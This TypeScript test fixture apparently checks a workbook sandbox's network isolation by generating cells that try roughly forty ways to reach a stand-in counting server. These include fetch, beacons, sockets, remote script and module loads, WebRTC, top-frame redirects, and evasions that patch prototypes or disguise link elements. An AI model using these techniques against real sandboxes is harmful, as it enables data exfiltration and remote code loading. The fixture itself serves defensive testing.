import type { CellText } from '../../src/workbook/document.ts';

/** What a hostile workbook may try; `there` is the address of a server that counts whatever arrives. */
const ATTACKS: Record<string, (there: string) => string> = {
  fetch: (there) => `await fetch('${there}');`,
  'fetch-later': (there) => `fetchLater('${there}', { activateAfter: 0 });`,
  request: (there) => `const r = new XMLHttpRequest(); r.open('GET', '${there}'); r.send();`,
  beacon: (there) => `navigator.sendBeacon('${there}', 'data');`,
  socket: (there) => `new WebSocket('${there}'.replace('http', 'ws'));`,
  events: (there) => `new EventSource('${there}');`,
  image: (there) => `new Image().src = '${there}';`,
  background: (there) => `document.body.style.backgroundImage = 'url(${there})';`,
  'style-import': (there) =>
    `const s = document.createElement('style'); s.textContent = '@import "${there}";'; document.head.append(s);`,
  font: (there) => `await new FontFace('f', 'url(${there})').load();`,
  video: (there) => `const v = document.createElement('video'); v.src = '${there}'; document.body.append(v);`,
  'svg-image': (there) =>
    `const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', '${there}');
     const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); svg.append(i); document.body.append(svg);`,
  module: (there) => `await (0, eval)("import('${there}')");`,
  worker: (there) => `new Worker(URL.createObjectURL(new Blob(["fetch('${there}')"])));`,
  location: (there) => `location.href = '${there}';`,
  navigation: (there) => `navigation.navigate('${there}');`,
  top: (there) => `top.location.href = '${there}';`,
  parent: (there) => `parent.location.replace('${there}');`,
  popup: (there) => `window.open('${there}');`,
  form: (there) =>
    `const f = document.createElement('form'); f.action = '${there}'; document.body.append(f); f.submit();`,
  script: (there) =>
    `const s = document.createElement('script'); s.src = '${there}'; document.head.append(s);`,
  preconnect: (there) =>
    `const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '${there}'; document.head.append(l);`,
  'preconnect-namespaced': (there) =>
    `const l = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:LINK'.toLowerCase());
     l.rel = 'preconnect'; l.href = '${there}'; document.head.append(l);`,
  'preconnect-changing-name': (there) =>
    `let asked = 0; const l = document.createElement({ toString: () => (asked++ ? 'link' : 'p') });
     l.rel = 'preconnect'; l.href = '${there}'; document.head.append(l);`,
  'preconnect-patched': (there) =>
    `Set.prototype.has = () => false; String.prototype.indexOf = () => -1; Reflect.apply = () => '';
     const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '${there}'; document.head.append(l);`,
  'preconnect-template': (there) =>
    `const t = document.createElement('template'); t.innerHTML = '<link rel=preconnect href="${there}">';
     document.head.append(t.content);`,
  'preconnect-parser': (there) =>
    `const d = new DOMParser().parseFromString('<link rel=preconnect href="${there}">', 'text/html');
     document.head.append(document.adoptNode(d.head.firstChild));`,
  'preconnect-set-html': (there) => `document.body.setHTML('<link rel=preconnect href="${there}">', {});`,
  'preconnect-lit': (there) =>
    `const cell = customElements.get('hour-cell');
     cell.prototype.render = () => ({ _$litType$: 1, values: [],
       strings: Object.assign(['<link rel=preconnect href="${there}">'], { raw: [''] }) });
     document.querySelector('hour-cell').requestUpdate();`,
  'preconnect-document': (there) =>
    `const d = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link', null);
     const l = document.adoptNode(d.documentElement); l.rel = 'preconnect'; l.href = '${there}'; document.head.append(l);`,
  'preconnect-built-in': (there) =>
    `class L extends HTMLLinkElement {} customElements.define('x-l', L, { extends: 'link' });
     const l = new L(); l.rel = 'preconnect'; l.href = '${there}'; document.head.append(l);`,
  refresh: (there) =>
    `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${there}'; document.head.append(m);`,
  write: (there) => `document.open(); document.write('<img src="${there}">'); document.close();`,
  frame: (there) =>
    `const f = document.createElement('iframe'); f.src = '${there}'; document.body.append(f);`,
  'frame-inside': (there) =>
    `const f = document.createElement('iframe'); f.srcdoc = '<img src="${there}">'; document.body.append(f);`,
  object: (there) =>
    `const o = document.createElement('object'); o.data = '${there}'; document.body.append(o);`,
  peer: (there) =>
    `const p = new RTCPeerConnection({ iceServers: [{ urls: '${there}'.replace(/http:..(.*)[/].*/, 'stun:$1') }] });
     p.createDataChannel('x'); await p.setLocalDescription();`,
  link: (there) =>
    `const a = document.createElement('a'); a.href = '${there}'; a.textContent = 'x';
     a.style = 'position:fixed;inset:0;z-index:99'; document.body.append(a);`,
  'link-command': (there) =>
    `document.body.contentEditable = 'true'; getSelection().selectAllChildren(document.body);
     document.execCommand('createLink', false, '${there}');`,
  'link-in-drawing': (there) =>
    `const file = '<svg xmlns="http://www.w3.org/2000/svg"><a id="x" href="${there}"><rect width="999" height="999"/></a></svg>';
     const u = document.createElementNS('http://www.w3.org/2000/svg', 'use');
     u.setAttribute('href', URL.createObjectURL(new Blob([file], { type: 'image/svg+xml' })) + '#x');
     const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
     svg.style = 'position:fixed;inset:0;z-index:98;width:100%;height:100%'; svg.append(u); document.body.append(svg);`,
};

/** These break the page for the attacks after them, so each gets a workbook of its own. */
export const DISRUPTIVE = ['preconnect-patched', 'preconnect-lit'];
/** These lead the frame itself away. */
export const LEAVING = ['location', 'navigation'];
/** All others, which can run side by side. */
export const TOGETHER = Object.keys(ATTACKS).filter((name) => ![...DISRUPTIVE, ...LEAVING].includes(name));

/** One cell an attack; the address each uses ends in the attack's name. */
export const attackCells = (names: readonly string[], server: string): CellText[] =>
  names.map((name) => ({
    name: `${name}.ts`,
    text: `${ATTACKS[name]!(`${server}/${name}`)}\nexport default 'done';\n`,
  }));
